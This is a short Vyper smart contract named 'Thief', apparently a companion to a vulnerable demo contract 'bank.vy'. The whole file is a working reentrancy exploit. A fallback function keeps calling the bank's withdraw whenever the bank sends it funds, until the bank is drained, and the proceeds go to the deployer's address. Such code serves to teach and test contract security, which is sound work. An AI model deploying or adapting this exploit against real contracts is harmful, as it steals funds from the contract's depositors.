# pragma version 0.4.3
# pragma evm-version cancun
"""
@title Thief
@notice Empties `bank.vy`: whenever it receives money from the bank, it asks for the same money once more.
"""

interface Bank:
    def deposit(): payable
    def withdraw(): nonpayable

bank: Bank
owner: address


@deploy
def __init__(bank: address):
    self.bank = Bank(bank)
    self.owner = msg.sender


@external
@payable
def steal():
    extcall self.bank.deposit(value=msg.value)
    extcall self.bank.withdraw()
    raw_call(self.owner, b"", value=self.balance)


@external
@payable
def __default__():
    # As long as the bank has enough for one more round.
    if msg.sender == self.bank.address and self.bank.address.balance >= msg.value:
        extcall self.bank.withdraw()
